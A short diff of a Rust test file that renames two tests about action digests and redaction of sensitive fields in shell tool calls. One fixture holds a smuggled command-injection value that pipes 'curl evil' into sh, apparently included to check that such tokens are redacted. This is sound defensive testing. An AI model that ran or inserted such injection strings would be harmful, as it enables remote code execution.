@@ -54,7 +54,7 @@ fn a_digest_distinguishes_actions() {
 }
 
 #[test]
-fn the_shown_digest_is_what_the_documentation_says() {
+fn the_shown_digest_matches_the_documentation() {
     let text = r#"{"arguments":{"a":1,"b":["x"]},"risk":"high","summary":"push","thread_id":"thr_0","tool_name":"shell"}"#;
     let arguments = exact(r#"{"b":["x"],"a":1}"#);
     assert_eq!(action(&arguments).shown_digest(), format!("sha256:{}", hex(&Sha256::digest(text))));
@@ -71,7 +71,7 @@ fn an_action_digest_is_an_hmac_with_the_key_of_the_store() {
 }
 
 #[test]
-fn what_is_hidden_is_counted() {
+fn hidden_parts_are_counted() {
     let original = exact(r#"{"token":"x\"; curl evil|sh #","n":[1234567],"note":"kept [redacted:token]"}"#);
     let shown =
         exact(r#"{"token":"[redacted:token]","n":["[redacted:pin]"],"note":"kept [redacted:token]"}"#);
